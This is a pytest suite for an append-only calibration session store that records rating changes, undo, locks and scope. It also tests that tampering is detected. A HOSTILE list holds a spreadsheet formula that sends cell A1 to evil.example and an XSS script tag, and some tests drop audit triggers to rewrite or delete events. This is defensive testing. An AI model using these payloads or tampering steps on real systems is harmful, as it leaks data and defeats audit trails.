"""The session store on a SQLite file and on a real PostgreSQL server: changes, refusals, tampering."""

from __future__ import annotations

import pytest
from sessions_support import raw_sql

from calib.inputs.config import load_config
from calib.sessions import SessionError, StaleVersionError, StoreError, list_sessions, open_session
from calib.sessions.engine import resolve_store
from calib.sessions.errors import NothingToChangeError
from calib.sessions.store import SessionStore

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "<script>alert('x')</script>", "Zoë ✓ \"quoted\"\nline 2"]


@pytest.fixture
def config(tiny_cycle):
    return load_config(tiny_cycle())


@pytest.fixture
def server(request, store_url):
    """The PostgreSQL server when the store is on it (for psql), else None."""
    return request.getfixturevalue("postgres_server") if "://" in store_url else None


def test_changes_are_recorded_and_state_derived(config, store_url):
    with open_session(config, "q3", store=store_url, by="Ana") as session:
        assert not session.exists and session.events() == []
        first = session.set_rating("E3", "far exceeds", reason="shipped the API", by="Ana")
        # E3 was submitted Exceeds and calibrated Meets: the session starts from Meets
        assert (first.seq, first.from_value, first.to_value, first.version) == (2, "Meets", "Far exceeds", 1)
        both = session.change("E3", rating="Meets", potential="HIGH", reason="peers", by="Bo", expect_version=1)
        assert [(e.kind, e.from_value, e.to_value, e.version) for e in both] == [
            ("rating", "Far exceeds", "Meets", 2),
            ("potential", None, "high", 3),
        ]
        session.flag("E4", by="Bo", reason="compare with E3")
        session.note("E4", "mentored Ed", by="Bo")
        session.mark_discussed("E4", by="Ana")
        table = session.table().set_index("employee_id")
        assert list(table.index) == ["E2", "E3", "E4", "E5", "E6", "E7"]
        assert table.loc["E3", ["submitted_rating", "start_rating", "rating", "version", "potential"]].tolist() == [
            "Exceeds", "Meets", "Meets", 3, "high"
        ]
        assert not table.loc["E3", "rating_changed"] and table.loc["E3", "potential_changed"]  # back where it began
        assert table.loc["E4", ["rating", "version", "flagged", "discussed", "notes"]].tolist() == [
            "Meets", 0, True, True, "mentored Ed"
        ]
        assert table.loc["E5", "rating"] == "Partially meets" and not table.loc["E5", "rating_changed"]
        assert session.verify().ok and session.verify().events == 7
    assert [s.name for s in list_sessions(config, store_url)] == ["q3"]


def test_undo_and_toggles_are_new_events_and_the_state_follows(config, store_url):
    with open_session(config, "q3", store=store_url, by="Ana") as session:
        session.change("E3", rating="Exceeds", potential="high", reason="led the migration", by="Ana")
        session.set_rating("E5", "Meets", reason="grew", by="Bo")
        undone = session.undo("E3", reason="recorded for the wrong person", by="Ana", expect_version=2)
        assert [(e.kind, e.from_value, e.to_value, e.version) for e in undone] == [
            ("undo_rating", "Exceeds", "Meets", 3),
            ("undo_potential", "high", None, 4),
        ]
        with pytest.raises(NothingToChangeError, match="no change in this session to undo"):
            session.undo("E3", reason="again", by="Ana")
        session.flag("E4", by="Bo")
        with pytest.raises(NothingToChangeError, match="already flagged"):
            session.flag("E4", by="Bo")  # a second press records nothing
        session.flag("E4", by="Bo", on=False)
        session.mark_discussed("E4", by="Ana")
        table = session.table().set_index("employee_id")
        assert table.loc["E3", ["start_rating", "rating", "potential", "version"]].tolist() == [
            "Meets", "Meets", None, 4
        ]
        assert not table.loc["E3", "rating_changed"] and not table.loc["E3", "potential_changed"]
        assert table.loc["E4", ["flagged", "discussed"]].tolist() == [False, True]
        assert [e.kind for e in session.events()] == [
            "open", "rating", "potential", "rating", "undo_rating", "undo_potential", "flag", "flag", "discussed"
        ]
        assert session.verify().ok


def test_hostile_reasons_are_stored_verbatim(config, store_url):
    with open_session(config, "q3", store=store_url, by="Ana") as session:
        for i, text in enumerate(HOSTILE):
            session.set_rating("E3", ["Exceeds", "Meets"][i % 2], reason=text, by=text.replace("\n", " "))
        session.note("E4", HOSTILE[1], by="Bo")
    with open_session(config, "q3", store=store_url) as reread:
        reasons = [e.reason for e in reread.events() if e.kind in ("rating", "note")]
        assert reasons == [*HOSTILE, HOSTILE[1]] and reread.events()[1].author == HOSTILE[0]
        assert reread.verify().ok


def test_a_stale_version_is_refused_with_who_and_when(config, store_url):
    with open_session(config, "q3", store=store_url, by="Ana") as ana, open_session(
        config, "q3", store=store_url, by="Bo"
    ) as bo:
        seen = ana.table().set_index("employee_id").loc["E3", "version"]
        bo.set_rating("E3", "Partially meets", reason="calibrated down", by="Bo", expect_version=int(seen))
        with pytest.raises(StaleVersionError) as refused:
            ana.set_rating("E3", "Far exceeds", reason="calibrated up", by="Ana", expect_version=int(seen))
        message = str(refused.value)
        assert message.startswith("E3 was changed by Bo (version 1, ") and "UTC) after the version 0 you saw" in message
        assert "\n" not in message
        assert [e.kind for e in ana.events()] == ["open", "rating"]


def test_a_locked_session_refuses_every_change(config, store_url):
    with open_session(config, "q3", store=store_url, by="Ana") as session:
        session.set_rating("E3", "Exceeds", reason="r", by="Ana")
        session.lock(by="Fa", reason="meeting over")
        for attempt in (
            lambda: session.set_rating("E4", "Exceeds", reason="late", by="Bo"),
            lambda: session.flag("E4", by="Bo"),
            lambda: session.note("E4", "late note", by="Bo"),
            lambda: session.lock(by="Bo"),
        ):
            with pytest.raises(SessionError, match="locked by Fa"):
                attempt()
        assert session.state().locked and len(session.events()) == 3 and session.verify().ok


@pytest.mark.parametrize(
    ("call", "message"),
    [
        (lambda s: s.set_rating("E3", "Meets", reason="  ", by="Ana"), "the reason is empty"),
        (lambda s: s.set_rating("E3", "Superb", reason="r", by="Ana"), "rating 'Superb': not on the scale"),
        (lambda s: s.set_potential("E3", "stellar", reason="r", by="Ana"), "not on the potential scale"),
        (lambda s: s.set_rating("E99", "Meets", reason="r", by="Ana"), "no such employee_id"),
        (lambda s: s.set_rating("E1", "Meets", reason="r", by="Ana"), "has no review in 2026-H1"),
        (lambda s: s.set_rating("E3", "Meets", reason="r", by=" "), "the author (--by) is empty"),
        (lambda s: s.note("E3", "", by="Ana"), "the note is empty"),
        (lambda s: s.change("E3", reason="r", by="Ana"), "nothing to change"),
    ],
)
def test_bad_input_is_one_line_and_writes_nothing(config, store_url, call, message):
    with open_session(config, "q3", store=store_url, by="Ana") as session:
        with pytest.raises(SessionError) as refused:
            call(session)
        assert message in str(refused.value) and "\n" not in str(refused.value)
        assert not session.exists  # a refused first change leaves no session behind


def test_scope_is_fixed_at_creation_and_checked(config, store_url):
    with open_session(config, "team", store=store_url, by="Bo", scope="manager:E2") as session:
        assert session.members() == ["E3", "E4", "E5"]
        with pytest.raises(SessionError, match=r"outside this session's scope \(manager:E2\)"):
            session.set_rating("E6", "Meets", reason="r", by="Bo")
        session.set_rating("E4", "Exceeds", reason="r", by="Bo")
    with pytest.raises(SessionError, match="has the scope manager:E2, not cycle"):
        open_session(config, "team", store=store_url, scope="cycle")
    with pytest.raises(SessionError, match="no person with employee_id 'E42'"):
        open_session(config, "other", store=store_url, by="Bo", scope="manager:E42")
    with pytest.raises(SessionError, match="expected cycle, org:NAME or manager:EMPLOYEE_ID"):
        open_session(config, "other", store=store_url, by="Bo", scope="team:api")
    with open_session(config, "team", store=store_url) as reopened:
        assert str(reopened.scope) == "manager:E2" and reopened.state().people["E4"].rating == "Exceeds"


def test_reading_a_missing_session_is_an_error(config, store_url):
    with pytest.raises(SessionError, match="no session named 'nope' in 2026-H1"):
        open_session(config, "nope", store=store_url)


def test_the_log_refuses_update_and_delete(config, store_url, server):
    with open_session(config, "q3", store=store_url, by="Ana") as session:
        session.set_rating("E3", "Exceeds", reason="r", by="Ana")
    for sql in (
        "UPDATE session_events SET reason = 'rewritten' WHERE seq = 2",
        "DELETE FROM session_events WHERE seq = 2",
        "DELETE FROM sessions",
        "UPDATE sessions SET event_count = 1",
        "UPDATE sessions SET scope = 'org:x'",
    ):
        ok, error = raw_sql(store_url, sql, server)
        assert not ok and "append-only" in error, sql
    if server is not None:
        ok, error = raw_sql(store_url, "TRUNCATE session_events CASCADE", server)
        assert not ok and "append-only" in error
    with open_session(config, "q3", store=store_url) as session:
        assert session.events()[1].reason == "r" and session.verify().ok


DROP = {
    "sqlite": "DROP TRIGGER session_events_no_update; DROP TRIGGER session_events_no_delete;",
    "postgresql": "DROP TRIGGER session_events_no_update_delete ON session_events;",
}


def _tampered(config, store_url, server, sql: str):
    with open_session(config, "q3", store=store_url, by="Ana") as session:
        session.set_rating("E3", "Exceeds", reason="shipped", by="Ana")
        session.set_rating("E4", "Exceeds", reason="led", by="Bo")
        session.set_rating("E5", "Meets", reason="grew", by="Cy")
        assert session.verify().ok
    ok, error = raw_sql(store_url, DROP["postgresql" if server else "sqlite"] + sql, server)
    assert ok, error
    with open_session(config, "q3", store=store_url) as session:
        return session.verify()


def test_verify_detects_a_reason_rewritten_with_the_databases_own_tools(config, store_url, server):
    result = _tampered(config, store_url, server, "UPDATE session_events SET reason = 'nothing' WHERE seq = 3;")
    assert not result.ok and result.broken_seq == 3
    assert "event 3 (rating of E4 by Bo" in result.problem and "changed after it was written" in result.problem


def test_verify_detects_a_deleted_event(config, store_url, server):
    result = _tampered(config, store_url, server, "DELETE FROM session_events WHERE seq = 2;")
    assert not result.ok and result.broken_seq == 2 and "event 2 is missing" in result.problem


def test_verify_detects_events_cut_off_the_end(config, store_url, server):
    result = _tampered(config, store_url, server, "DELETE FROM session_events WHERE seq = 4;")
    assert not result.ok and "removed from its end" in result.problem


def test_the_default_store_and_the_configs_store(tiny_cycle, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    plain = load_config(tiny_cycle())
    assert resolve_store(plain) == str(tmp_path / "reports" / "sessions.sqlite")
    configured = load_config(tiny_cycle(config=lambda text: text + "sessions: {store: store/s.sqlite}\n"))
    assert resolve_store(configured) == str(tmp_path / "store" / "s.sqlite")
    assert resolve_store(configured, "postgresql://h/db") == "postgresql://h/db"
    with open_session(configured, "q3", by="Ana") as session:
        session.set_rating("E3", "Exceeds", reason="r", by="Ana")
    assert (tmp_path / "store" / "s.sqlite").is_file()


def test_store_errors_are_one_line_and_hide_passwords(tmp_path):
    with pytest.raises(StoreError) as refused:
        SessionStore("postgresql://calib:s3cret-pw@127.0.0.1:9/calib")
    message = str(refused.value)
    assert "s3cret-pw" not in message and "***" in message and "\n" not in message
    with pytest.raises(StoreError, match="expected a SQLite file path or a postgresql:// URL"):
        SessionStore("mysql://u:s3cret-pw@h/db")
    (tmp_path / "dir.sqlite").mkdir()
    with pytest.raises(StoreError, match="cannot be opened"):
        SessionStore(tmp_path / "dir.sqlite")
